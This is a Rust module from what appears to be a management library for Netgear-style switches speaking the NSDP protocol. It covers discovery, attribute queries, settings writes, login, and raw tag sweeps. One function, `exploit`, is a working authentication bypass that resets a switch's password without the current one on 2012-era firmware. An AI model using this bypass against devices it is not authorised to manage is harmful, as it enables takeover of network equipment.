//! Protocol operations
//!
//! Discovery, query, set, the password exploit and the raw diagnostic
//! queries, built on top of a `Session`. Every caller-supplied name and
//! value is resolved and validated before the first datagram is sent.

use std::collections::BTreeMap;
use std::net::Ipv4Addr;
use std::ops::RangeInclusive;

use serde::{Serialize, Serializer};

use crate::attribute::{
    decode_value, encode_value, hex, parse_value, AttributeDescriptor, Dictionary, Value,
    ValueContext, ValueKind, DISCOVERY_ATTRIBUTES,
};
use crate::credential;
use crate::error::{NsdpError, Rejection, Result};
use crate::network::{Session, Transport};
use crate::protocol::{
    MacAddr, Packet, RequestKind, Tag, TlvRecord, RESULT_BAD_PASSWORD, RESULT_PORT_OUT_OF_RANGE,
    RESULT_SUCCESS, RESULT_VALUE_OUT_OF_RANGE,
};

/// Query item that expands to every queryable attribute
pub const ALL_ATTRIBUTES: &str = "all";

// =============================================================================
// Result Types
// =============================================================================

/// One switch that answered a discovery broadcast
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct DiscoveredSwitch {
    pub mac: MacAddr,

    /// Address the reply came from, if known
    pub ip: Option<Ipv4Addr>,

    /// Identifying attributes included in the reply
    pub attributes: BTreeMap<String, Value>,
}

impl DiscoveredSwitch {
    pub fn name(&self) -> Option<&Value> {
        self.attributes.get("name")
    }

    pub fn model(&self) -> Option<&Value> {
        self.attributes.get("model")
    }
}

/// What a query learned about one attribute
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(tag = "status", content = "value", rename_all = "snake_case")]
pub enum Reading {
    /// One value per record the switch returned (per-port attributes
    /// repeat the tag)
    Supported(Vec<Value>),

    /// The switch left the tag out of its reply or refused it
    Unsupported,

    /// The switch returned bytes that do not fit the attribute's encoding
    ///
    /// `raw` and `reason` describe the first bad record. Values from the
    /// tag's other records are kept in `decoded`.
    Undecodable {
        decoded: Vec<Value>,
        #[serde(serialize_with = "serialize_hex")]
        raw: Vec<u8>,
        reason: String,
    },
}

fn serialize_hex<S: Serializer>(bytes: &[u8], serializer: S) -> std::result::Result<S::Ok, S::Error> {
    serializer.serialize_str(&hex(bytes))
}

/// A named reading, in request order
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct QueryEntry {
    pub name: String,
    pub tag: Tag,
    pub reading: Reading,
}

/// Outcome of a query against one switch
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct QueryResult {
    pub mac: MacAddr,
    pub entries: Vec<QueryEntry>,

    /// Records whose tag was not requested, kept verbatim
    pub unsolicited: Vec<TlvRecord>,
}

impl QueryResult {
    /// Reading for `name`, if it was requested
    pub fn get(&self, name: &str) -> Option<&Reading> {
        self.entries
            .iter()
            .find(|e| e.name.eq_ignore_ascii_case(name))
            .map(|e| &e.reading)
    }

    /// True when every requested attribute decoded
    pub fn is_complete(&self) -> bool {
        self.entries
            .iter()
            .all(|e| matches!(e.reading, Reading::Supported(_)))
    }
}

/// A validated attribute assignment, ready to encode
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Assignment {
    pub descriptor: AttributeDescriptor,
    pub value: Value,
}

/// Result of probing a single tag during a sweep
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct RawProbe {
    pub tag: Tag,

    /// Attribute name, when the tag is in the dictionary
    pub name: Option<String>,

    pub records: Vec<TlvRecord>,
    pub error: Option<String>,
}

// =============================================================================
// Discovery
// =============================================================================

/// Broadcast a discovery request and collect every switch that answers
/// within the timeout
///
/// Never retries. Switches are deduplicated by MAC and returned in MAC
/// order; an empty result is not an error.
pub fn discover<T: Transport>(session: &mut Session<T>) -> Result<Vec<DiscoveredSwitch>> {
    let descriptors: Vec<AttributeDescriptor> = DISCOVERY_ATTRIBUTES
        .iter()
        .map(|name| session.dictionary().resolve(name).cloned())
        .collect::<Result<_>>()?;

    let records = descriptors.iter().map(|d| TlvRecord::empty(d.tag)).collect();
    let target = session.config().discovery_mac;
    let request = session.request(RequestKind::Discovery, target, records);

    let replies = session.broadcast(&request)?;
    tracing::debug!("Discovery collected {} replies", replies.len());

    let mut switches: Vec<DiscoveredSwitch> = replies
        .iter()
        .map(|reply| {
            let mac = reply.switch_mac();
            let mut attributes = BTreeMap::new();
            for descriptor in &descriptors {
                let Some(record) = reply.record(descriptor.tag) else {
                    continue;
                };
                match decode_value(descriptor, &record.value) {
                    Ok(value) => {
                        attributes.insert(descriptor.name.to_string(), value);
                    }
                    Err(e) => tracing::warn!("{}: cannot decode {}: {}", mac, descriptor.name, e),
                }
            }
            DiscoveredSwitch {
                mac,
                ip: session.known_ip(&mac),
                attributes,
            }
        })
        .collect();

    switches.sort_by_key(|s| s.mac);
    Ok(switches)
}

// =============================================================================
// Query
// =============================================================================

/// Resolve query item names, expanding `all`
///
/// Fails before any I/O on unknown names or on attributes that cannot be
/// queried.
pub fn resolve_query_items(
    dictionary: &Dictionary,
    items: &[&str],
) -> Result<Vec<AttributeDescriptor>> {
    let mut descriptors: Vec<AttributeDescriptor> = Vec::new();

    for item in items {
        let expanded: Vec<&AttributeDescriptor> = if item.eq_ignore_ascii_case(ALL_ATTRIBUTES) {
            dictionary.queryable().collect()
        } else {
            let descriptor = dictionary.resolve(item)?;
            if !descriptor.is_queryable() {
                return Err(NsdpError::invalid_value(
                    descriptor.name,
                    "attribute cannot be queried",
                ));
            }
            vec![descriptor]
        };

        for descriptor in expanded {
            if !descriptors.iter().any(|d| d.tag == descriptor.tag) {
                descriptors.push(descriptor.clone());
            }
        }
    }

    Ok(descriptors)
}

/// Query named attributes from one switch
///
/// Batchable attributes share one request; the rest get a request each.
/// Attributes missing from the reply are reported as `Unsupported`.
pub fn query<T: Transport>(
    session: &mut Session<T>,
    mac: MacAddr,
    items: &[&str],
    password: Option<&str>,
) -> Result<QueryResult> {
    let descriptors = resolve_query_items(session.dictionary(), items)?;

    if let Some(password) = password {
        login(session, mac, password)?;
    }

    let mut entries = Vec::with_capacity(descriptors.len());
    let mut unsolicited = Vec::new();

    for batch in batches(&descriptors) {
        let tags: Vec<Tag> = batch.iter().map(|d| d.tag).collect();
        let fetched = fetch(session, mac, &tags, password.is_some())?;

        for descriptor in batch {
            let reading = if fetched.refused.contains(&descriptor.tag) {
                Reading::Unsupported
            } else {
                read_attribute(descriptor, &fetched.records)
            };
            entries.push(QueryEntry {
                name: descriptor.name.to_string(),
                tag: descriptor.tag,
                reading,
            });
        }

        unsolicited.extend(
            fetched
                .records
                .into_iter()
                .filter(|r| !tags.contains(&r.tag)),
        );
    }

    Ok(QueryResult {
        mac,
        entries,
        unsolicited,
    })
}

fn batches(descriptors: &[AttributeDescriptor]) -> Vec<Vec<&AttributeDescriptor>> {
    let shared: Vec<&AttributeDescriptor> = descriptors.iter().filter(|d| d.batchable).collect();

    let mut batches = Vec::new();
    if !shared.is_empty() {
        batches.push(shared);
    }
    batches.extend(
        descriptors
            .iter()
            .filter(|d| !d.batchable)
            .map(|d| vec![d]),
    );
    batches
}

fn read_attribute(descriptor: &AttributeDescriptor, records: &[TlvRecord]) -> Reading {
    let mut values = Vec::new();
    let mut failure = None;

    for record in records.iter().filter(|r| r.tag == descriptor.tag) {
        // Switches answer unsupported tags with an empty record
        if record.is_empty() && descriptor.kind != ValueKind::Text {
            continue;
        }
        match decode_value(descriptor, &record.value) {
            Ok(value) => values.push(value),
            Err(e) => {
                tracing::warn!("Cannot decode {}: {}", descriptor.name, e);
                failure.get_or_insert((record.value.clone(), e.to_string()));
            }
        }
    }

    match failure {
        Some((raw, reason)) => Reading::Undecodable {
            decoded: values,
            raw,
            reason,
        },
        None if values.is_empty() => Reading::Unsupported,
        None => Reading::Supported(values),
    }
}

/// Records returned for a set of tags, and the tags the switch refused
struct Fetched {
    records: Vec<TlvRecord>,
    refused: Vec<Tag>,
}

/// Query `tags` from one switch
///
/// A rejection naming one of the requested tags drops that tag and asks
/// again for the rest.
fn fetch<T: Transport>(
    session: &mut Session<T>,
    mac: MacAddr,
    tags: &[Tag],
    password_sent: bool,
) -> Result<Fetched> {
    let password_tag = session.dictionary().password()?.tag;
    let mut pending = tags.to_vec();
    let mut refused = Vec::new();

    while !pending.is_empty() {
        let records = pending.iter().map(|&t| TlvRecord::empty(t)).collect();
        let request = session.request(RequestKind::Query, mac, records);
        let attempts = session.config().max_attempts;
        let reply = session.exchange(&request, attempts)?;

        if !reply.is_rejection() {
            return Ok(Fetched {
                records: reply.records,
                refused,
            });
        }

        let failed = reply.failed_tag;
        match pending.iter().position(|&t| t == failed) {
            Some(index) if failed != password_tag && reply.result != RESULT_BAD_PASSWORD => {
                tracing::debug!("{} refused tag {}, asking for the rest", mac, failed);
                refused.push(pending.remove(index));
            }
            _ => {
                check_reply(&reply, password_tag, password_sent)?;
                return Ok(Fetched {
                    records: reply.records,
                    refused,
                });
            }
        }
    }

    Ok(Fetched {
        records: Vec::new(),
        refused,
    })
}

// =============================================================================
// Set
// =============================================================================

/// Resolve and validate `name = text` pairs
///
/// Runs entirely offline so a bad flag never reaches the wire.
pub fn prepare_assignments(
    dictionary: &Dictionary,
    ctx: &ValueContext,
    pairs: &[(&str, &str)],
) -> Result<Vec<Assignment>> {
    pairs
        .iter()
        .map(|(name, text)| {
            let descriptor = dictionary.resolve(name)?;
            if !descriptor.is_settable() {
                return Err(NsdpError::invalid_value(
                    descriptor.name,
                    "attribute is read-only",
                ));
            }
            Ok(Assignment {
                descriptor: descriptor.clone(),
                value: parse_value(descriptor, text, ctx)?,
            })
        })
        .collect()
}

/// Parse, validate and write `name = text` pairs to one switch
pub fn set<T: Transport>(
    session: &mut Session<T>,
    mac: MacAddr,
    password: Option<&str>,
    pairs: &[(&str, &str)],
) -> Result<()> {
    let assignments = prepare_assignments(session.dictionary(), &session.value_context(), pairs)?;
    apply(session, mac, password, &assignments)
}

/// Write validated assignments to one switch in a single set request
///
/// The password record goes first. The request is sent once unless
/// `retry_writes` is enabled; a rejection is never resent.
pub fn apply<T: Transport>(
    session: &mut Session<T>,
    mac: MacAddr,
    password: Option<&str>,
    assignments: &[Assignment],
) -> Result<()> {
    if assignments.is_empty() {
        return Err(NsdpError::invalid_value("set", "nothing to set"));
    }

    let mode = session.config().password_mode;
    let ctx = session.value_context();
    let password_tag = session.dictionary().password()?.tag;
    let new_password_tag = session.dictionary().new_password()?.tag;

    let mut records = Vec::with_capacity(assignments.len() + 1);
    if let Some(password) = password {
        records.push(TlvRecord::new(
            password_tag,
            credential::encode_password(password, mode),
        ));
    }

    for assignment in assignments {
        let bytes = match (&assignment.value, assignment.descriptor.tag == new_password_tag) {
            (Value::Text(text), true) => credential::encode_password(text, mode),
            _ => encode_value(&assignment.descriptor, &assignment.value, &ctx)?,
        };
        records.push(TlvRecord::new(assignment.descriptor.tag, bytes));
    }

    let request = session.request(RequestKind::Set, mac, records);
    let attempts = write_attempts(session);
    let reply = session.exchange(&request, attempts)?;
    check_reply(&reply, password_tag, password.is_some())?;

    tracing::debug!("{} accepted {} assignment(s)", mac, assignments.len());
    Ok(())
}

/// Authenticate against one switch
///
/// Sends a set request carrying only the password record.
pub fn login<T: Transport>(session: &mut Session<T>, mac: MacAddr, password: &str) -> Result<()> {
    let mode = session.config().password_mode;
    let password_tag = session.dictionary().password()?.tag;

    let records = vec![TlvRecord::new(
        password_tag,
        credential::encode_password(password, mode),
    )];
    let request = session.request(RequestKind::Set, mac, records);
    let attempts = session.config().max_attempts;
    let reply = session.exchange(&request, attempts)?;
    check_reply(&reply, password_tag, true)
}

/// Set a new password without the current one
///
/// Works against 2012-era firmware that accepts a set request holding a
/// `new_password` record and no password record at all.
pub fn exploit<T: Transport>(
    session: &mut Session<T>,
    mac: MacAddr,
    new_password: &str,
) -> Result<()> {
    let mode = session.config().password_mode;
    let password_tag = session.dictionary().password()?.tag;
    let new_password_tag = session.dictionary().new_password()?.tag;

    let records = vec![TlvRecord::new(
        new_password_tag,
        credential::encode_password(new_password, mode),
    )];
    let request = session.request(RequestKind::Set, mac, records);
    let attempts = write_attempts(session);
    let reply = session.exchange(&request, attempts)?;
    check_reply(&reply, password_tag, false)
}

fn write_attempts<T: Transport>(session: &Session<T>) -> u32 {
    if session.config().retry_writes {
        session.config().max_attempts
    } else {
        1
    }
}

/// Map a reply's result byte to success or a rejection
fn check_reply(reply: &Packet, password_tag: Tag, password_sent: bool) -> Result<()> {
    if reply.result == RESULT_SUCCESS {
        return Ok(());
    }

    let rejection = if reply.result == RESULT_BAD_PASSWORD || reply.failed_tag == password_tag {
        Rejection::BadPassword
    } else if reply.result == RESULT_VALUE_OUT_OF_RANGE {
        Rejection::ValueOutOfRange
    } else if reply.result == RESULT_PORT_OUT_OF_RANGE {
        Rejection::PortOutOfRange
    } else {
        Rejection::Unknown {
            code: reply.result,
            tag: reply.failed_tag.0,
        }
    };

    tracing::debug!(
        "{} rejected seq={}: {} (failed tag {})",
        reply.switch_mac(),
        reply.sequence,
        rejection,
        reply.failed_tag
    );

    if rejection == Rejection::BadPassword && !password_sent {
        return Err(NsdpError::AuthenticationRequired);
    }
    Err(NsdpError::SwitchRejected(rejection))
}

// =============================================================================
// Raw Queries
// =============================================================================

/// Fetch every record the switch returns for the known tags, verbatim
///
/// The dictionary only picks which tags to ask for; nothing is decoded, so
/// tags a firmware answers with unexpected layouts stay visible.
pub fn query_raw<T: Transport>(
    session: &mut Session<T>,
    mac: MacAddr,
    password: Option<&str>,
) -> Result<Vec<TlvRecord>> {
    if let Some(password) = password {
        login(session, mac, password)?;
    }

    let descriptors: Vec<AttributeDescriptor> = session.dictionary().queryable().cloned().collect();

    let mut records = Vec::new();
    for batch in batches(&descriptors) {
        let tags: Vec<Tag> = batch.iter().map(|d| d.tag).collect();
        records.extend(fetch(session, mac, &tags, password.is_some())?.records);
    }
    Ok(records)
}

/// Probe each tag in `range` with its own request
///
/// Failures are reported per tag; only local I/O errors abort the sweep.
pub fn sweep_raw<T: Transport>(
    session: &mut Session<T>,
    mac: MacAddr,
    password: Option<&str>,
    range: RangeInclusive<u16>,
) -> Result<Vec<RawProbe>> {
    if let Some(password) = password {
        login(session, mac, password)?;
    }

    let mut probes = Vec::new();
    for tag in range.map(Tag) {
        let name = session.dictionary().by_tag(tag).map(|d| d.name.to_string());

        let (records, error) = match fetch(session, mac, &[tag], password.is_some()) {
            Ok(fetched) if !fetched.refused.is_empty() => {
                (fetched.records, Some(format!("switch refused tag {}", tag)))
            }
            Ok(fetched) => (fetched.records, None),
            Err(e @ NsdpError::Io(_)) => return Err(e),
            Err(e) => (Vec::new(), Some(e.to_string())),
        };

        probes.push(RawProbe {
            tag,
            name,
            records,
            error,
        });
    }
    Ok(probes)
}
